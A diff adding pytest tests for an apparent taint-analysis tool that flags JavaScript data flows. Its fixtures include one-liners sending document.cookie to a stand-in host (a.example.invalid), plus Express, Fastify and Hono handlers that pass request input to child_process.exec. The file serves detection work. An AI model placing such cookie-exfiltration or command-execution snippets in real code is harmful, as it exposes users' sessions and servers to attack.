@@ -1,0 +1,53 @@
+"""A page that goes elsewhere takes what stands in its address along; who answers requests is handed them."""
+
+import pytest
+from engine_flows import flows
+
+from ostiary.core.coverage import Reach
+from ostiary.program.flow import Act, Taint
+
+LEAVING = {
+    "a bare name": "location = 'https://a.example.invalid/?' + document.cookie;",
+    "of the window": "self.location = 'https://a.example.invalid/?' + document.cookie;",
+    "in a function": "(() => { location = 'https://a.example.invalid/?' + document.cookie })();",
+    "a module": "import('https://a.example.invalid/?' + document.cookie);",
+    "a style": "document.body.style.background = 'url(https://a.example.invalid/?' + document.cookie + ')';",
+}
+STAYING = {
+    "a name of its own": "let location = ''; location = 'https://a.example.invalid/?' + document.cookie;",
+    "nothing of worth": "location = 'https://a.example.invalid/?' + Math.random();",
+    "a colour": "document.body.style.background = 'red' + document.cookie;",
+}
+ASKED = {
+    "express": "const a = require('express')(); a.post('/a', (q, r) => { RUN(q.body.c) });",
+    "a router": "const a = require('express').Router(); a.get('/a', (q, r) => { RUN(q.query.c) });",
+    "any request": "const a = require('express')(); a.use((q, r, next) => { RUN(q.body.c) });",
+    "fastify": "const a = require('fastify')(); a.get('/a', async (q) => { RUN(q.query.c) });",
+    "hono": "import { Hono } from 'hono'; const a = new Hono(); a.get('/a', (c) => { RUN(c.req.url) });",
+}
+
+
+@pytest.mark.parametrize("how", LEAVING)
+def test_what_is_in_the_address_leaves(how: str) -> None:
+    (one,) = flows(f"{LEAVING[how]}\n", Act.SEND, "npm")
+    assert one.has(Taint.BROWSER, Taint.SECRET, Taint.TOKEN)
+    assert "https://a.example.invalid/" in one.target
+
+
+@pytest.mark.parametrize("how", STAYING)
+def test_nothing_leaves(how: str) -> None:
+    assert flows(f"{STAYING[how]}\n", Act.SEND, "npm") == []
+
+
+@pytest.mark.parametrize("how", ASKED)
+def test_a_request_is_what_runs(how: str) -> None:
+    text = ASKED[how].replace("RUN", "require('child_process').exec")
+    (one,) = flows(f"{text}\n", Act.RUN, "npm")
+    assert one.has(Taint.NETWORK)
+    assert one.reach is Reach.CALL
+
+
+def test_what_another_library_hands_over_is_no_request() -> None:
+    text = "const a = require('lru')(); a.get('/a', (q) => { require('child_process').exec(q) });\n"
+    (one,) = flows(text, Act.RUN, "npm")
+    assert not one.has(Taint.NETWORK)
